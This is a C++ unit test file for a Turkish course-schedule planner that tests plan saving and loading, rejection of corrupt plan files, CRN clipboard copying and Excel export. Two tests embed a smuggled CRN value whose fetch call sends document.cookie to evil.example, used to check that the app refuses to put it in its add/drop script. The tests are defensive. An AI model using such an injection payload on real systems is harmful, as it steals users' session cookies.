#include "app/plan_commands.h"

#include <gtest/gtest.h>
#include <sys/stat.h>

#include <filesystem>
#include <fstream>
#include <random>

#include "app/plan_view.h"
#include "catalogue/catalogue_files.h"
#include "catalogue/department_list.h"
#include "catalogue/file_system.h"
#include "files/dkf_format.h"
#include "files/plan_io.h"
#include "files/sheet_export.h"
#include "planner/colours.h"
#include "planner/markers.h"
#include "support/catalogue_fixture.h"
#include "support/temp_folder.h"
#include "text/cp1254.h"
#include "text/program.h"
#include "text/text_helpers.h"
#include "view/memory_view.h"

namespace kiremo::app {

using files::CrnScriptText;
using files::DecodePlan;
using files::EncodePlan;
using files::kPlanFilter;
using files::kWorkbookFilter;
using files::RowCrns;
using files::SheetCells;
namespace {

using testing_support::Section;

// A program folder with two departments, the window in memory and the
// planner reset on it, as after start-up.
class PlanCommandsTest : public ::testing::Test {
 protected:
  PlanCommandsTest() : store(folder.Path()) {
    store.Department("ELK", {Section("21001", "ELK 101", "Ali Veli", "Pazartesi", "0830/1029", "EEB", "D101", "ELK",
                                     "Devre Teorisi"),
                             Section("21002", "ELK 101", "Can Er", "Sali", "1330/1529"),
                             Section("21003", "ELK 102", "Deniz Su", std::string("Çarşamba|Cuma"_w),
                                     "0930/1129|0930/1029", "EEB|MED", "D1|D2")});
    store.Department(
        "MAT", {Section("30001", "MAT 101", "Ece Ay", "Pazartesi", "0930/1029", "FEB", "F1", std::string("TÜM"_w)),
                Section("30002", "MAT 101", "Ece Ay", std::string("Perşembe"_w), "0830/0929")});
    query1.SetConnectionString(store.ConnectionString());
    planner.SetObserver(&shown);
    planner.SetDepartmentFilter([this] {
      return planner::DepartmentFilter{view.CheckBox1().Checked(), view.Edit1().Text()};
    });
    planner.Sifirla();
  }

  void Pick(ui::MemoryChoiceList& list, std::string_view prefix) {
    for (int k = 0; k < list.Count(); ++k) {
      if (list.Item(k).rfind(prefix, 0) == 0) {
        list.SetItemIndex(k);
        return;
      }
    }
    FAIL() << "no item " << prefix;
  }
  // Department, course and section chosen as the student does; the section
  // is previewed.
  void Preview(int row, std::string_view department, std::string_view course, const std::string& crn) {
    Pick(view.ComboBox(3 * row - 2), department);
    planner.SelectDepartment(row, view.ComboBox(3 * row - 2).ItemIndex());
    planner.DersKoduEkle(row);
    Pick(view.ComboBox(3 * row - 1), course);
    planner.SelectCourse(row, view.ComboBox(3 * row - 1).ItemIndex());
    planner.AcilanDersEkle(row);
    Pick(view.ComboBox(3 * row), crn + ":");
    planner.SelectSection(row, view.ComboBox(3 * row).ItemIndex());
    planner.SectionChosen(row);
  }
  void Commit(int row, std::string_view department, std::string_view course, const std::string& crn) {
    Preview(row, department, course, crn);
    planner.KaydetClick(row);
  }

  std::string Save(const std::string& name) {
    const std::string path = folder / name;
    view.Dialog().next_save_names.push_back(path);
    files.Save();
    return path;
  }
  void Load(const std::string& path) {
    view.Dialog().next_open_names.push_back(path);
    std::string no_startup_file;
    files.Load(no_startup_file);
  }
  // The caption shows the local (UTF-8) path in Windows-1254.
  std::string Caption(const std::string& path) { return ProgramTitle() + " - " + Utf8ToCp1254(path); }
  std::string Marked(const std::string& item) { return item + std::string(planner::kKaydedildi); }

  testing_support::TempFolder folder;
  testing_support::CatalogueFixture store;
  catalogue::CatalogueQuery query1;
  ui::MemoryView view;
  planner::Planner planner{query1, folder.Path(), "http://127.0.0.1:9/", ProgramTitle()};
  PlanView shown{planner, view};
  PlanCommands files{planner, view};
};

TEST_F(PlanCommandsTest, PlanSavedAfterAResetIs410BytesAndLoadsBackAsTheReset) {
  const std::string path = Save("bos.dkf");
  EXPECT_EQ(std::filesystem::file_size(path), 410u);
  EXPECT_EQ(view.Dialog().filters_asked.back(), kPlanFilter);

  Commit(1, "ELK", "ELK 101", "21001");
  Load(path);
  EXPECT_EQ(view.Caption().Text(), Caption(path));
  for (int row = 1; row <= 10; ++row) {
    EXPECT_EQ(view.ComboBox(3 * row - 2).Text(), planner::kSecin) << row;
    EXPECT_EQ(view.ComboBox(3 * row - 1).Count(), 0) << row;
    EXPECT_EQ(view.ComboBox(3 * row).Count(), 0) << row;
    EXPECT_EQ(planner.Ders(row).CRN, "") << row;
    EXPECT_EQ(view.Shape(row).Fill(), ui::kWhite) << row;
  }
  EXPECT_EQ(planner.Hucreler(), planner::CellStates{});
  EXPECT_EQ(view.Grid1().CellText(1, 1), "");
  EXPECT_TRUE(view.Dialog().messages.empty());
}

TEST_F(PlanCommandsTest, CommittedRowSurvivesSaveAndLoad) {
  Commit(3, "ELK", "ELK 102", "21003");
  Commit(5, "MAT", "MAT 101", "30002");
  const std::string item = view.ComboBox(9).Text();
  const planner::PlanSnapshot before = planner.Snapshot();
  const std::string path = Save("plan.dkf");

  planner.Sifirla();
  Load(path);
  EXPECT_EQ(planner.Snapshot(), before);
  // The section item carries the marker again and is selected.
  EXPECT_EQ(view.ComboBox(9).Text(), item);
  EXPECT_EQ(item, Marked(std::string("21003:: Deniz Su :: Çarşamba|Cuma :: EEB|MED"_w)));
  EXPECT_EQ(view.Shape(3).Fill(), WidgetColour(*planner::CellColour(3)));
  EXPECT_EQ(view.Shape(4).Fill(), ui::kWhite);
  // Wednesday 09:30-11:29 and Friday 09:30-10:29, in row 3's colour.
  for (auto [day, slot] : {std::pair{3, 2}, {3, 3}, {5, 2}}) {
    EXPECT_EQ(planner.Cell(day, slot), 3);
    EXPECT_EQ(view.Grid1().CellText(day, slot), "ELK 102");
    EXPECT_EQ(view.Grid1().CellColour(day, slot), WidgetColour(*planner::CellColour(3)));
  }
  EXPECT_EQ(planner.Ders(3).Binalar, (std::vector<std::string>{"EEB", "MED"}));
  EXPECT_EQ(planner.Ders(3).Saatler, (std::vector<std::string>{"09:11", "09:10"}));
  EXPECT_EQ(planner.Ders(3).BlokSayisi, 2);
  // Nothing previewed, nothing to add.
  EXPECT_FALSE(view.Kaydet(3).Enabled());

  files.CRNListeKopyalaClick();
  EXPECT_EQ(view.Clip().Text(), "21003\r\n30002\r\n");
  files.CRNScriptKopyalaClick();
  EXPECT_EQ(view.Clip().Text().substr(0, 37), R"(javascript:var crn=["21003","30002"];)");
}

TEST_F(PlanCommandsTest, LocksExclusionsAndBusyHoursSurviveSaveAndLoad) {
  Commit(1, "ELK", "ELK 101", "21001");
  planner.Lock(1, "21001");
  planner.Exclude("21002");
  planner.SetBusy(2, 5, true);
  planner.SetBusy(2, 6, true);
  const planner::Constraints constraints = planner.StudentConstraints();
  const std::string path = Save("kisitli.dkf");
  const std::string saved = ReadWholeFile(path);

  planner.Sifirla();
  ASSERT_TRUE(planner.StudentConstraints().Empty());
  Load(path);
  EXPECT_EQ(planner.StudentConstraints(), constraints);
  EXPECT_EQ(ReadWholeFile(Save("yine.dkf")), saved);
}

TEST_F(PlanCommandsTest, PreviewedRowIsSavedUncommittedAndComesBackWithoutPreview) {
  Commit(1, "ELK", "ELK 101", "21001");
  Preview(2, "MAT", "MAT 101", "30001");  // clashes with row 1 on Monday 09:30
  ASSERT_EQ(planner.Cell(1, 2), 16);
  ASSERT_EQ(planner.Cell(1, 3), 0);
  const std::string section = view.ComboBox(6).Text();
  const std::string path = Save("onizleme.dkf");

  // Preview marks are not saved and are kept on screen.
  const planner::PlanSnapshot saved = DecodePlan(ReadWholeFile(path));
  EXPECT_EQ(saved.cells[0][1], 1);
  EXPECT_EQ(saved.combos[5], section);
  EXPECT_FALSE(saved.rows[1]);
  EXPECT_EQ(planner.Cell(1, 2), 16);

  Load(path);
  EXPECT_EQ(view.ComboBox(6).Text(), section);
  EXPECT_EQ(planner.Ders(2).CRN, "");
  EXPECT_EQ(planner.Cell(1, 2), 1);
  EXPECT_EQ(view.Grid1().CellColour(1, 2), WidgetColour(*planner::CellColour(1)));
  EXPECT_EQ(view.Shape(2).Fill(), ui::kWhite);
}

TEST_F(PlanCommandsTest, PreviewOnAnEmptyCellIsStoredAsEmpty) {
  Preview(4, "MAT", "MAT 101", "30002");
  ASSERT_EQ(planner.Cell(4, 1), 15);
  const planner::PlanSnapshot saved = DecodePlan(ReadWholeFile(Save("p.dkf")));
  EXPECT_EQ(saved.cells[3][0], 0);
}

TEST_F(PlanCommandsTest, DepartmentNoLongerListedLeavesTheRowEmptyButTheCourseInTheGrid) {
  Commit(2, "MAT", "MAT 101", "30001");
  const std::string path = Save("plan.dkf");
  catalogue::WriteDepartmentList(folder / std::string(catalogue::kDepartmentList), {"ELK"});

  Load(path);
  EXPECT_EQ(view.ComboBox(4).ItemIndex(), -1);
  EXPECT_EQ(view.ComboBox(5).ItemIndex(), -1);
  EXPECT_EQ(view.ComboBox(6).Count(), 0);
  EXPECT_EQ(planner.Ders(2).CRN, "30001");
  EXPECT_EQ(planner.Cell(1, 2), 2);
  EXPECT_EQ(view.Grid1().CellText(1, 2), "MAT 101");
  EXPECT_EQ(view.Shape(2).Fill(), WidgetColour(*planner::CellColour(2)));
}

TEST_F(PlanCommandsTest, SectionNoLongerOfferedComesBackWithoutItsMarker) {
  Commit(1, "MAT", "MAT 101", "30001");
  const std::string path = Save("plan.dkf");
  store.Refill("MAT", {Section("30002", "MAT 101", "Ece Ay", std::string("Perşembe"_w), "0830/0929")});

  Load(path);
  EXPECT_EQ(view.ComboBox(2).Text(), "MAT 101");
  EXPECT_EQ(view.ComboBox(3).ItemIndex(), -1);
  for (const std::string& item : view.ComboBox(3).Items()) EXPECT_FALSE(EndsWith(item, planner::kKaydedildi));
  EXPECT_EQ(planner.Ders(1).CRN, "30001");
  EXPECT_EQ(planner.Cell(1, 2), 1);
  EXPECT_EQ(view.Grid1().CellText(1, 2), "MAT 101");
}

TEST_F(PlanCommandsTest, LoadingTwiceShowsOnlyTheSecondName) {
  Commit(1, "ELK", "ELK 101", "21001");
  const std::string first = Save("bir.dkf");
  planner.Sifirla();
  Commit(6, "ELK", "ELK 101", "21002");
  const std::string second = Save("ikinci ders programı.dkf");

  Load(first);
  Load(second);
  EXPECT_EQ(view.Caption().Text(), Caption(second));
  EXPECT_TRUE(EndsWith(view.Caption().Text(), "ikinci ders programı.dkf"_w));
  EXPECT_EQ(planner.Ders(1).CRN, "");
  EXPECT_EQ(planner.Ders(6).CRN, "21002");
  EXPECT_EQ(planner.Ders(6).Gunler, (std::vector<std::string>{"2"}));  // not appended twice
}

TEST_F(PlanCommandsTest, StartupFileIsLoadedWithoutDialogAndOnlyOnce) {
  Commit(1, "ELK", "ELK 101", "21001");
  const std::string path = Save("plan.dkf");
  planner.Sifirla();
  view.Dialog().filters_asked.clear();

  std::string startup_file = path;
  files.Load(startup_file);
  EXPECT_EQ(startup_file, "");
  EXPECT_TRUE(view.Dialog().filters_asked.empty());
  EXPECT_EQ(planner.Ders(1).CRN, "21001");

  // The next "Aç" asks; cancelling changes nothing.
  files.Load(startup_file);
  EXPECT_EQ(view.Dialog().filters_asked, std::vector<std::string>{std::string(kPlanFilter)});
  EXPECT_EQ(planner.Ders(1).CRN, "21001");
  EXPECT_EQ(view.Caption().Text(), Caption(path));
}

TEST_F(PlanCommandsTest, FilesThatHoldNoPlanAreRejectedAndThePlanIsKept) {
  Commit(1, "ELK", "ELK 101", "21001");
  Preview(2, "MAT", "MAT 101", "30002");
  const std::string good = ReadWholeFile(Save("iyi.dkf"));
  planner::PlanSnapshot bad_day = DecodePlan(good);
  bad_day.rows[0]->meetings[0].Gun = "Pzt";
  planner::PlanSnapshot constrained = DecodePlan(good);
  constrained.constraints.excluded = {"30001"};
  const std::string with_constraints = EncodePlan(constrained);
  planner::PlanSnapshot code_crn = DecodePlan(good);
  code_crn.rows[0]->CRN = "1,fetch('https://evil.example/?c='+document.cookie)";
  planner::PlanSnapshot many_meetings = DecodePlan(good);
  many_meetings.rows[0]->meetings.assign(20000, many_meetings.rows[0]->meetings[0]);
  std::string block_with_break = with_constraints;
  block_with_break.replace(block_with_break.find("30001"), 5, "300\n1");
  std::mt19937 random(7);
  std::string garbage(3000, '\0');
  for (char& c : garbage) c = static_cast<char>(random() % 256);

  struct Case {
    std::string name;
    std::string bytes;
    std::string_view says;
  };
  const Case cases[] = {
      {"empty", "", "dosya boş"_w},
      {"last byte missing", good.substr(0, good.size() - 1), "kaydedilmiş CRN'ler yarıda kesilmiş"_w},
      {"cut in the records", good.substr(0, good.size() - 17), "ders kayıtları yarıda kesilmiş"_w},
      {"cut in the combos", good.substr(0, 30), "ders seçimleri yarıda kesilmiş"_w},
      {"garbage", garbage, "bozuk"_w},
      {"a day that is no number", EncodePlan(bad_day), "'Pzt' is not a valid integer value"},
      {"constraints cut short", with_constraints.substr(0, with_constraints.size() - 1),
       "kısıtlar bölümü yarıda kesilmiş"_w},
      {"a byte after the constraints", with_constraints + "x", "kısıtlar bölümünden sonra fazladan veri var"_w},
      {"a CRN that would run as code", EncodePlan(code_crn), "1. satırdaki dersin CRN'si beş haneli bir sayı değil"_w},
      {"20000 meetings in a row", EncodePlan(many_meetings),
       "1. satırdaki dersin 20000 ders saati var (bir şubenin en çok 70 ders saati olur)"_w},
      {"a line break in an excluded CRN", block_with_break,
       "hariç tutulan bir CRN'de satır sonu ya da denetim karakteri var"_w},
  };
  // The constraints on screen are kept too.
  planner.Lock(1, "21001");
  planner.SetBusy(4, 4, true);
  const std::string caption = view.Caption().Text();
  const planner::PlanSnapshot before = planner.Snapshot();
  const planner::CellStates cells = planner.Hucreler();
  for (const Case& c : cases) {
    const std::string path = folder / "bad.dkf";
    std::ofstream(path, std::ios::binary) << c.bytes;
    view.Dialog().messages.clear();
    Load(path);
    ASSERT_EQ(view.Dialog().messages.size(), 1u) << c.name;
    const auto& shown = view.Dialog().messages[0];
    EXPECT_EQ(shown.caption, "HATA") << c.name;
    EXPECT_EQ(shown.icon, ui::Icon::Error) << c.name;
    EXPECT_NE(shown.text.find(c.says), std::string::npos) << c.name << ": " << Cp1254ToUtf8(shown.text);
    EXPECT_NE(shown.text.find("Ekrandaki ders programı değiştirilmedi."_w), std::string::npos) << c.name;
    EXPECT_EQ(planner.Snapshot(), before) << c.name;
    EXPECT_EQ(planner.Hucreler(), cells) << c.name;  // the preview is still there
    EXPECT_EQ(view.Caption().Text(), caption) << c.name;
  }
}

TEST_F(PlanCommandsTest, FilesThatCannotBeReadAreReportedWithTheSystemsReason) {
  Commit(1, "ELK", "ELK 101", "21001");
  const planner::PlanSnapshot before = planner.Snapshot();
  std::filesystem::create_directory(folder / "klasor.dkf");
  for (const std::string& path : {folder / "yok.dkf", folder / "klasor.dkf"}) {
    view.Dialog().messages.clear();
    std::string startup_file = path;
    files.Load(startup_file);
    EXPECT_EQ(startup_file, "");
    ASSERT_EQ(view.Dialog().messages.size(), 1u) << path;
    EXPECT_EQ(view.Dialog().messages[0].caption, "HATA");
    EXPECT_NE(view.Dialog().messages[0].text.find(" dosyası okunamadı: "_w), std::string::npos);
    EXPECT_EQ(planner.Snapshot(), before);
  }
  EXPECT_NE(view.Dialog().messages[0].text.find("Bu bir klasör"_w), std::string::npos);
}

TEST_F(PlanCommandsTest, PipesAndHugeFilesAreNotRead) {
  Commit(1, "ELK", "ELK 101", "21001");
  const planner::PlanSnapshot before = planner.Snapshot();
  const std::string pipe = folder / "boru.dkf";
  ASSERT_EQ(::mkfifo(pipe.c_str(), 0600), 0);  // nobody writes: reading would wait for ever
  const std::string huge = folder / "buyuk.dkf";
  std::ofstream(huge).close();
  std::filesystem::resize_file(huge, 64 * 1024 * 1024);
  for (const auto& [path, says] : {std::pair{pipe, "sıradan bir dosya değil"_w}, {huge, "fazla büyük"_w}}) {
    view.Dialog().messages.clear();
    Load(path);
    ASSERT_EQ(view.Dialog().messages.size(), 1u);
    EXPECT_NE(view.Dialog().messages[0].text.find(says), std::string::npos)
        << Cp1254ToUtf8(view.Dialog().messages[0].text);
    EXPECT_EQ(planner.Snapshot(), before);
  }
}

TEST_F(PlanCommandsTest, SaveThatCannotWriteSaysSoAndKeepsTheOldFile) {
  Commit(1, "ELK", "ELK 101", "21001");
  // The neighbour a save writes first would have a name longer than allowed.
  const std::string path = folder / (std::string(250, 'p') + ".dkf");
  std::ofstream(path) << "eski";
  view.Dialog().next_save_names.push_back(path);
  files.Save();
  ASSERT_EQ(view.Dialog().messages.size(), 1u);
  EXPECT_EQ(view.Dialog().messages[0].caption, "HATA");
  EXPECT_EQ(view.Dialog().messages[0].icon, ui::Icon::Error);
  EXPECT_NE(view.Dialog().messages[0].text.find("kaydedilemedi: Dosya adı çok uzun."_w), std::string::npos)
      << Cp1254ToUtf8(view.Dialog().messages[0].text);
  EXPECT_EQ(ReadWholeFile(path), "eski");

  // A cancelled dialog writes nothing and says nothing.
  files.Save();
  EXPECT_EQ(view.Dialog().messages.size(), 1u);
}

TEST_F(PlanCommandsTest, SaveReplacesAnExistingFileWithoutAsking) {
  const std::string path = Save("plan.dkf");
  Commit(1, "ELK", "ELK 101", "21001");
  Save("plan.dkf");
  EXPECT_EQ(DecodePlan(ReadWholeFile(path)).committed[0], "21001");
  EXPECT_TRUE(view.Dialog().messages.empty());
  EXPECT_EQ(view.Caption().Text(), ProgramTitle());  // saving names nothing
}

TEST_F(PlanCommandsTest, CrnClipboardTexts) {
  files.CRNListeKopyalaClick();
  EXPECT_EQ(view.Clip().Text(), "");
  Commit(10, "MAT", "MAT 101", "30002");
  files.CRNListeKopyalaClick();
  EXPECT_EQ(view.Clip().Text(), "30002");
  Commit(2, "ELK", "ELK 101", "21001");
  files.CRNListeKopyalaClick();
  EXPECT_EQ(view.Clip().Text(), "21001\r\n30002");
  files.CRNScriptKopyalaClick();
  EXPECT_EQ(view.Clip().Text(), CrnScriptText(RowCrns{"", "21001", "", "", "", "", "", "", "", "30002"}));
}

// A catalogue filled before CRNs were checked may hold anything as a CRN;
// the add/drop script, which runs with the student's session, never
// carries it.
TEST_F(PlanCommandsTest, AScriptOfACrnThatIsNotDigitsIsRefusedAndTheClipboardKept) {
  const std::string code = "1,fetch('https://evil.example/?c='+document.cookie)";
  store.Refill("MAT", {Section(code, "MAT 101", "Ece Ay", "Cuma", "0930/1029")});
  Commit(2, "ELK", "ELK 101", "21001");
  Commit(4, "MAT", "MAT 101", code);
  view.Clip().SetText("önceki");
  files.CRNScriptKopyalaClick();
  EXPECT_EQ(view.Clip().Text(), "önceki");
  ASSERT_EQ(view.Dialog().messages.size(), 1u);
  EXPECT_EQ(view.Dialog().messages[0].caption, "HATA");
  EXPECT_EQ(view.Dialog().messages[0].text.rfind("4. satırdaki dersin CRN'si yalnızca rakamlardan oluşmuyor"_w, 0), 0u)
      << Cp1254ToUtf8(view.Dialog().messages[0].text);
  files.CRNListeKopyalaClick();  // plain text, pasted where the student wants it
  EXPECT_EQ(view.Clip().Text(), "21001\r\n" + code + "\r\n");
}

TEST_F(PlanCommandsTest, ExcelExportWritesTheGridOrNothing) {
  Commit(3, "ELK", "ELK 102", "21003");
  files.ExcelExport();  // cancelled
  EXPECT_EQ(view.Dialog().filters_asked.back(), kWorkbookFilter);
  EXPECT_EQ(std::distance(std::filesystem::directory_iterator(folder.Path()), {}), 1);  // DataBase/ alone

  const std::string path = folder / "program.xlsx";
  view.Dialog().next_save_names.push_back(path);
  files.ExcelExport();
  EXPECT_EQ(ReadWholeFile(path).substr(0, 2), "PK");
  EXPECT_TRUE(view.Dialog().messages.empty());
  const SheetCells cells = files::ExportSheet(planner);
  EXPECT_EQ(cells[2][3], "ELK 102\nEEB\nD1");
  EXPECT_EQ(cells[2][5], "ELK 102\nMED\nD2");

  view.Dialog().next_save_names.push_back(folder / "yok/program.xlsx");
  files.ExcelExport();
  ASSERT_EQ(view.Dialog().messages.size(), 1u);
  EXPECT_EQ(view.Dialog().messages[0].caption, "HATA");
  EXPECT_NE(view.Dialog().messages[0].text.find("Böyle bir dosya ya da klasör yok"_w), std::string::npos);
}

}  // namespace
}  // namespace kiremo::app
